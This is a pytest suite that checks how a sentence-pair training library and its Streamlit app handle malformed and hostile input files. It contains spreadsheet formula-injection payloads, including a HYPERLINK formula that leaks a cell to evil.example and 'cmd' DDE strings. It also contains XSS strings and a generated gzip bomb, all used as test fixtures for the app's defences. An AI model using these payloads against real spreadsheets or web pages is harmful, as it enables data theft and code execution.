"""Bad input end to end: every file of `tests/bad_inputs/` (and a few huge ones generated here) goes through the
library loader, the `augsbert validate` command and the app's upload path. Each rejected file gets a specific
message that names the file (and the row and column where one applies), no process crashes or prints a
traceback, and a rejected upload writes nothing to the workspace (data folder and run store). Hostile but
valid files (formula cells, HTML, duplicates, identical pairs, BOM, ...) load, with warnings where due.

The corpus is rebuilt by `python tests/bad_inputs/make_corpus.py`; EXPECTED.md lists the same table in prose.
Run: HF_HUB_OFFLINE=1 python -m pytest tests/test_bad_inputs.py -q   (about 20 s)"""

from __future__ import annotations

import gzip
import json
import os
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from augsbert_core.io import data
from augsbert_core.io.data import DataError

pytestmark = pytest.mark.hostile

ROOT = Path(__file__).resolve().parents[1]
CORPUS = Path(__file__).resolve().parent / "bad_inputs"


@dataclass(frozen=True)
class Case:
    file: str
    kind: str  # "gold" (load_pairs, role train) or "unlabeled" (load_unlabeled, role unlabeled)
    expect: str | None  # regex the message must match after the file name; None = the file loads
    warn: str | None = None  # for files that load: a regex one warning must match (None = no warning needed)
    scale: tuple[float, float] | None = None

    @property
    def id(self) -> str:
        return self.file + (f"[scale={self.scale[0]:g},{self.scale[1]:g}]" if self.scale else "")


G, U = "gold", "unlabeled"
CASES: list[Case] = [
    # structure: delimiter, header, columns
    Case("semicolon_delimiter.csv", G, r": looks semicolon-separated .*save it comma-separated"),
    Case("tab_separated_named_csv.csv", G, r": looks tab-separated .*rename it to \.tsv"),
    Case("comma_separated_named_tsv.tsv", G, r": looks comma-separated .*rename it to \.csv"),
    Case("no_header.csv", G, r": missing column 'sentence1' \(found: A plane is taking off\., .*\)"),
    Case("missing_score_column.csv", G, r": missing column 'score' or 'label' \(found: sentence1, sentence2\)"),
    Case("misnamed_columns.csv", G, r": missing column 'sentence1' \(found: first_text, second_text, rating\); map it"),
    Case("duplicate_header.csv", G, r": duplicate column name 'sentence1' in the header"),
    Case("ragged_row.csv", G, r", row 3: row has 2 fields but the header has 3 \(line 4\)"),
    Case("unclosed_quote.csv", G, r", row 3: .*unclosed quote"),
    Case("header_only.csv", G, r": has a header row but no data rows"),
    Case("empty.csv", G, r": file is empty \(0 bytes\)"),
    # cells
    Case("empty_sentence.csv", G, r", row 3, column 'sentence1': sentence1 is empty"),
    Case("whitespace_sentence.csv", G, r", row 4, column 'sentence2': sentence2 is empty \(whitespace only\)"),
    Case("nan_score.csv", G, r", row 2, column 'score': score is not a finite number: 'NaN'"),
    Case("non_numeric_score.csv", G, r", row 3, column 'score': score is not a number: 'high'"),
    Case(
        "decimal_comma_score.csv", G, r", row 2, column 'score': score is not a number: '4,5' \(use '\.' as the decimal"
    ),
    Case("infinite_score.csv", G, r", row 5, column 'score': score is not a finite number: 'inf'"),
    Case("missing_score_cell.csv", G, r", row 3, column 'score': score is empty"),
    Case("score_out_of_scale.csv", G, r", column 'score': scores range 0\.\.7\.5; pass scale="),
    Case("score_out_of_scale.csv", G, r", row 5, column 'score': score 7\.5 is outside the scale 0\.\.5", scale=(0, 5)),
    Case("negative_score.csv", G, r", column 'score': scores range -1\.\.5; pass scale="),
    Case("mixed_binary_and_float_labels.csv", G, r", row 3, column 'is_duplicate': labels must be 0/1, found 0\.5"),
    # bytes and encodings
    Case(
        "latin1_bytes.csv",
        G,
        r", row 3, column 'sentence1': byte 0xe9 at byte offset \d+ \(line 4\) is not valid UTF-8",
    ),
    Case("utf16.csv", G, r": is not CSV text: it is UTF-16 encoded; save it as UTF-8"),
    Case("binary_renamed.csv", G, r": is not CSV text: it contains NUL bytes"),
    Case("xlsx_renamed.csv", G, r": is not CSV text: it looks like a ZIP archive or an Excel workbook"),
    Case("parquet_renamed.csv", G, r": is not CSV text: it looks like a Parquet file; rename it to \.parquet"),
    Case("truncated.csv.gz", G, r": gzip data is truncated"),
    Case("plain_text_named.csv.gz", G, r": is not gzip-compressed"),
    Case("spreadsheet.xlsx", G, r": unsupported file type '\.xlsx' \(export the sheet as CSV"),
    # Parquet
    Case("wrong_schema.parquet", G, r": missing column 'sentence1' \(found: id, text, value\)"),
    Case("corrupt.parquet", G, r": is not a valid Parquet file"),
    # JSON
    Case("invalid_json_line.jsonl", G, r", row 3: invalid JSON on line 3"),
    Case("json_array_line.jsonl", G, r", row 2: line 2 is a JSON array, not an object"),
    Case("deeply_nested.json", G, r": invalid JSON: nested too deeply"),
    # unlabeled
    Case("unlabeled_no_text_column.csv", U, r": no sentence column found \(found: id, value\)"),
    Case("unlabeled_blank_line.txt", U, r", row 2, column 'sentence': sentence is empty"),
    Case("binary_renamed.csv", U, r": is not CSV text: it contains NUL bytes"),
    # hostile but valid: they load (with a warning where one is due); cells are data, never executed
    Case("formula_injection.csv", G, None),
    Case("html_script.csv", G, None),
    Case("duplicate_pairs.csv", G, None, warn=r"dropped 3 duplicate pairs .*row 5 = row 1, row 6 = row 2 \(swapped\)"),
    Case("identical_sentences.csv", G, None, warn=r", row 5: sentence1 and sentence2 are identical \(kept\)"),
    Case("bom.csv", G, None),
    Case("crlf_line_endings.csv", G, None),
    Case("unicode_controls.csv", G, None),
    Case("single_class_labels.csv", G, None, warn=r"column 'label': all labels are 0: only one class"),
    Case("positive_pairs_only.csv", G, None),  # every label 1: task positive_pairs (mining.py), no warning
    Case("html_script.csv", U, None),
]
HOSTILE_TEXT = {  # cells of the hostile-but-valid files that must come back verbatim
    "formula_injection.csv": [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ],
    "html_script.csv": [
        "<script>alert('xss')</script>",
        '<img src=x onerror="alert(1)">',
        "**bold** [click](javascript:alert(1)) `code` $x^2$",
    ],
}


def _load(path: Path, case: Case):
    if case.kind == G:
        return data.load_pairs(path, scale=case.scale)
    return data.load_unlabeled(path)


def _check_message(message: str, name: str, case: Case) -> None:
    assert message.startswith(name), f"message does not start with the file name {name!r}: {message}"
    assert re.search(re.escape(name) + case.expect, message), f"{case.id}: {message!r} !~ {case.expect!r}"
    assert "Traceback" not in message


# ------------------------------------------------------------------------------------------- the corpus
def test_corpus_is_complete():
    files = {p.name for p in CORPUS.iterdir() if p.is_file() and p.suffix not in (".py", ".md")}
    listed = {c.file for c in CASES}
    assert files == listed, f"not in CASES: {files - listed}; missing files: {listed - files}"
    assert len(files) >= 25
    assert sum(1 for c in CASES if c.expect) >= 25
    expected_md = (CORPUS / "EXPECTED.md").read_text(encoding="utf-8")
    assert all(f"`{name}`" in expected_md for name in files), "EXPECTED.md lists every file"
    assert max(p.stat().st_size for p in CORPUS.iterdir()) < 300_000, "huge inputs are generated, not committed"


# -------------------------------------------------------------------------------------------- (a) library
@pytest.mark.parametrize("case", CASES, ids=lambda c: f"{c.kind}-{c.id}")
def test_library_loader(case: Case):
    path = CORPUS / case.file
    if case.expect is None:
        loaded = _load(path, case)
        warnings = [str(w) for w in loaded.warnings]
        if case.warn:
            assert any(re.search(case.warn, w) for w in warnings), warnings
            assert all(w.startswith(str(path)) for w in warnings)
        for text in HOSTILE_TEXT.get(case.file, []):
            got = loaded.frame["sentence1"].tolist() if case.kind == G else loaded.sentences
            assert text in got, f"{text!r} not kept verbatim"
        return
    with pytest.raises(DataError) as info:
        _load(path, case)
    _check_message(str(info.value), str(path), case)
    assert info.value.problems and all(p.file == str(path) for p in info.value.problems)


def test_formula_cells_are_neutralised_in_exports():
    frame = data.load_pairs(CORPUS / "formula_injection.csv").frame
    safe = data.safe_for_spreadsheet(frame)
    for cell in safe["sentence1"]:
        assert cell.startswith("'") and cell[1] in "=+-@"
    assert safe["sentence2"].tolist() == frame["sentence2"].tolist()  # harmless cells unchanged
    assert safe["label"].tolist() == frame["label"].tolist()  # numbers unchanged
    csv_text = safe.to_csv(index=False)
    assert not re.search(r'(^|,)"?[=+@-]', csv_text.split("\n", 1)[1], re.M), "no cell starts a formula"


# ------------------------------------------------------------------------------------------ (b) the CLI
_DRIVER = r"""
import contextlib, io, json, sys, traceback
from augsbert_core.cli import main
out = []
for argv in json.loads(sys.stdin.read()):
    err, std = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(std):
        try:
            code = main(argv)
        except SystemExit as exc:
            code = exc.code
        except BaseException:
            code = "crash"
            traceback.print_exc()
    out.append({"argv": argv, "code": code, "stderr": err.getvalue(), "stdout": std.getvalue()})
print(json.dumps(out))
"""


def _argv(path: Path, case: Case) -> list[str]:
    argv = ["validate", str(path), "--kind", case.kind]
    if case.scale:
        argv += ["--scale", f"{case.scale[0]:g},{case.scale[1]:g}"]
    return argv


def _env() -> dict[str, str]:
    return dict(os.environ, HF_HUB_OFFLINE="1", PYTHONPATH=str(ROOT))


@pytest.fixture(scope="module")
def cli_results() -> dict[str, dict]:
    """`augsbert validate` on every case, batched: one interpreter calls the CLI's `main` (what
    `python -m augsbert_core` runs) once per file, so the suite pays the ~1.5 s of imports once."""
    argvs = [_argv(CORPUS / c.file, c) for c in CASES]
    proc = subprocess.run(
        [sys.executable, "-c", _DRIVER],
        input=json.dumps(argvs),
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=_env(),
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    return {" ".join(r["argv"]): r for r in json.loads(proc.stdout)}


@pytest.mark.parametrize("case", CASES, ids=lambda c: f"{c.kind}-{c.id}")
def test_cli_validate(case: Case, cli_results):
    path = CORPUS / case.file
    result = cli_results[" ".join(_argv(path, case))]
    assert result["code"] != "crash", result["stderr"]
    assert "Traceback" not in result["stderr"] + result["stdout"]
    if case.expect is None:
        assert result["code"] == 0, result["stderr"]
        assert f"{path}: OK ({case.kind})" in result["stdout"]
        if case.warn:
            assert re.search(case.warn, result["stdout"])
        return
    assert result["code"] == 2, result
    first = result["stderr"].splitlines()[0]
    assert first.startswith("error: ")
    _check_message(first[len("error: ") :], str(path), case)


@pytest.mark.parametrize(
    "name, kind, code",
    [
        ("nan_score.csv", G, 2),
        ("truncated.csv.gz", G, 2),
        ("unlabeled_blank_line.txt", U, 2),
        ("html_script.csv", G, 0),
    ],
)
def test_cli_validate_real_process(name, kind, code, cli_results):
    """`python -m augsbert_core validate` itself (a few files; the batch above covers the rest the same way)."""
    path = CORPUS / name
    proc = subprocess.run(
        [sys.executable, "-m", "augsbert_core", "validate", str(path), "--kind", kind],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=_env(),
        timeout=120,
    )
    assert proc.returncode == code
    assert "Traceback" not in proc.stderr
    batched = cli_results[" ".join(["validate", str(path), "--kind", kind])]
    assert (proc.stdout, proc.stderr) == (batched["stdout"], batched["stderr"])


def test_cli_json_errors_are_one_line_per_problem():
    proc = subprocess.run(
        [sys.executable, "-m", "augsbert_core", "validate", str(CORPUS / "misnamed_columns.csv")],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=_env(),
        timeout=120,
    )
    assert proc.returncode == 2
    lines = proc.stderr.splitlines()
    assert len(lines) == 3 and all("misnamed_columns.csv" in line for line in lines)
    assert {"'sentence1'", "'sentence2'", "'score' or 'label'"} <= {
        m for m in re.findall(r"'[^']+'(?: or '[^']+')?", proc.stderr)
    }


# ------------------------------------------------------------------------------------- (c) the upload path
@pytest.fixture
def ws(tmp_path, monkeypatch):
    """A fresh workspace with its data folder and run store created (as the app creates them on first view)."""
    monkeypatch.setenv("AUGSBERT_HOME", str(tmp_path / "workspace"))
    from studio import workspace

    workspace.store()
    workspace.data_dir()
    return workspace


def listing(root: Path) -> dict[str, tuple[int, int]]:
    return {
        str(p.relative_to(root)): (p.stat().st_size, p.stat().st_mtime_ns) if p.is_file() else (-1, 0)
        for p in sorted(root.rglob("*"))
    }


def upload(workspace, role: str, name: str, payload: bytes, scale=None):
    """What the Data page does with an upload: read the columns, guess the mapping, validate and save."""
    columns, error = workspace.read_columns(name, payload)
    if error is not None:
        return error, None
    mapping = workspace.guess_mapping(columns, role)
    result = workspace.save_upload(role, name, payload, mapping, scale=scale)
    return result.error, result


@pytest.mark.parametrize("case", CASES, ids=lambda c: f"{c.kind}-{c.id}")
def test_upload_path(case: Case, ws):
    workspace = ws
    role = "train" if case.kind == G else "unlabeled"
    payload = (CORPUS / case.file).read_bytes()
    before = listing(workspace.home())
    error, result = upload(workspace, role, case.file, payload, scale=case.scale)
    if case.expect is None:
        assert error is None, str(error)
        assert workspace.read_manifest()["files"][role]["original"] == case.file
        if case.warn:
            assert any(re.search(case.warn, w) for w in result.warnings), result.warnings
        saved = workspace.load_role(role)
        for text in HOSTILE_TEXT.get(case.file, []):
            got = saved.frame["sentence1"].tolist() if case.kind == G else saved.sentences
            assert text in got
        return
    assert error is not None
    message = str(error)
    _check_message(message, case.file, case)
    assert "augsbert-upload-" not in message, "the temporary path is not shown"
    assert listing(workspace.home()) == before, "a rejected upload wrote nothing"
    assert workspace.read_manifest()["files"] == {}
    assert workspace.store().list() == []


def test_rejected_upload_keeps_the_previous_file(ws):
    workspace = ws
    good = (CORPUS / "bom.csv").read_bytes()
    assert upload(workspace, "train", "gold.csv", good)[0] is None
    before = listing(workspace.home())
    error, _ = upload(workspace, "train", "gold.csv", (CORPUS / "nan_score.csv").read_bytes())
    assert error is not None and listing(workspace.home()) == before
    assert workspace.read_manifest()["files"]["train"]["rows"] == 4


# ------------------------------------------------------------------------------------ generated huge files
def _everywhere(path: Path, kind: str, ws) -> list[str]:
    """The message from the loader, the CLI (real process) and the upload path, for a generated file."""
    case = Case(path.name, kind, "")
    messages = []
    with pytest.raises(DataError) as info:
        _load(path, case)
    messages.append(str(info.value))
    proc = subprocess.run(
        [sys.executable, "-m", "augsbert_core", "validate", str(path), "--kind", kind],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=_env(),
        timeout=120,
    )
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    messages.append(proc.stderr.splitlines()[0].removeprefix("error: "))
    before = listing(ws.home())
    error, _ = upload(ws, "train" if kind == G else "unlabeled", path.name, path.read_bytes())
    assert error is not None and listing(ws.home()) == before
    messages.append(str(error))
    return messages


def test_10mb_single_line(tmp_path, ws):
    path = tmp_path / "one_line_10mb.csv"
    path.write_bytes(b"sentence1" + b"x" * 10_000_000)  # no newline at all
    for message in _everywhere(path, G, ws):
        assert re.search(r"one_line_10mb\.csv: has a header row but no data rows", message), message[:300]
    wide = tmp_path / "one_line_10mb_fields.csv"
    wide.write_bytes(b"a," * 5_000_000)
    for message in _everywhere(wide, G, ws):
        assert re.search(r"one_line_10mb_fields\.csv: the header line has 5,000,001 fields", message), message[:300]


def test_a_million_tiny_rows_with_one_bad_row_at_the_end(tmp_path, ws):
    path = tmp_path / "million_rows.csv"
    rows = "".join(f"s{i},t{i},{i % 6}\n" for i in range(1_000_000))
    path.write_text("sentence1,sentence2,score\n" + rows + "last,row,oops\n", encoding="utf-8")
    for message in _everywhere(path, G, ws):
        assert re.search(r"million_rows\.csv, row 1000001, column 'score': score is not a number: 'oops'", message)


def test_upload_cap_and_gzip_bomb_are_refused_before_parsing(tmp_path, ws, monkeypatch):
    monkeypatch.setenv("AUGSBERT_MAX_UPLOAD_MB", "1")
    big = b"sentence1,sentence2,score\n" + b"a,b,1\n" * 300_000  # 1.8 MB
    before = listing(ws.home())
    error, _ = upload(ws, "train", "big.csv", big)
    assert re.search(
        r"^big\.csv: the file is 1\.7 MB; uploads are limited to 1\.0 MB \(server\.maxUploadSize", str(error)
    )
    bomb = gzip.compress(b"sentence1,sentence2,score\n" + b"0" * 50_000_000, compresslevel=9)  # 50 KB -> 50 MB
    assert len(bomb) < 100_000
    error, _ = upload(ws, "train", "bomb.csv.gz", bomb)
    assert re.search(r"^bomb\.csv\.gz: the file expands to more than 5\.0 MB when decompressed", str(error))
    assert listing(ws.home()) == before
    ok = gzip.compress((CORPUS / "bom.csv").read_bytes())
    assert upload(ws, "train", "small.csv.gz", ok)[0] is None  # a normal gzip still passes


# ---------------------------------------------------------------------------------------- shown in the app
def test_app_shows_hostile_cells_as_text(ws, monkeypatch):
    """Formula and HTML cells, once saved, appear in the Data page only as data-frame text; no element of the
    page enables HTML, and the warning captions are escaped."""
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("AUGSBERT_DEVICE_LABEL", "CPU (test)")
    monkeypatch.chdir(ROOT)
    for name in ("html_script.csv", "formula_injection.csv"):
        assert (
            upload(ws, "train" if name == "html_script.csv" else "test", name, (CORPUS / name).read_bytes())[0] is None
        )
    assert upload(ws, "dev", "dup<b>.csv", (CORPUS / "duplicate_pairs.csv").read_bytes())[0] is None
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.switch_page("app_pages/data.py").run()
    assert not at.exception
    markdown = [e for e in at.get("markdown")] + list(at.caption)
    assert markdown and not any(e.proto.allow_html for e in markdown)
    for e in list(at.markdown) + list(at.caption) + list(at.error) + list(at.success) + list(at.warning):
        body = re.sub(r"\\.", "", str(e.value))  # markdown sees only what is not backslash-escaped
        assert "<script" not in body and "<img" not in body and "](javascript" not in body, body
    shown = [df.value for df in at.dataframe]
    cells = {str(v) for df in shown for col in df.columns for v in df[col]}
    assert "<script>alert('xss')</script>" in cells  # the preview shows the raw text as data
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"click me")' in cells


def test_error_box_escapes_the_upload_text():
    """The rejection message quotes the file's cell and its name: both shown as text, not markdown/HTML."""
    from streamlit.testing.v1 import AppTest

    def page():
        from augsbert_core.io.data import DataError, Problem
        from studio import ui

        ui.data_error(
            DataError(
                [
                    Problem(
                        "<img src=x onerror=alert(1)>.csv",
                        2,
                        "score",
                        "score is not a number: '[click](javascript:alert(1)) **x**'",
                    )
                ]
            ),
            "<img src=x onerror=alert(1)>.csv",
        )

    at = AppTest.from_function(page, default_timeout=30).run()
    assert not at.exception
    body = at.error[0].value
    unescaped = re.sub(r"\\.", "", body)  # what markdown would interpret: everything not backslash-escaped
    assert "<" not in unescaped and "](" not in unescaped and "**x" not in unescaped.replace("**", "", 1)
    assert r"\<img src=x onerror=alert\(1\)\>\.csv" in body and r"\[click\]\(javascript\:alert\(1\)\)" in body
    table = at.dataframe[0].value
    assert table["problem"][0] == "score is not a number: '[click](javascript:alert(1)) **x**'"  # as data
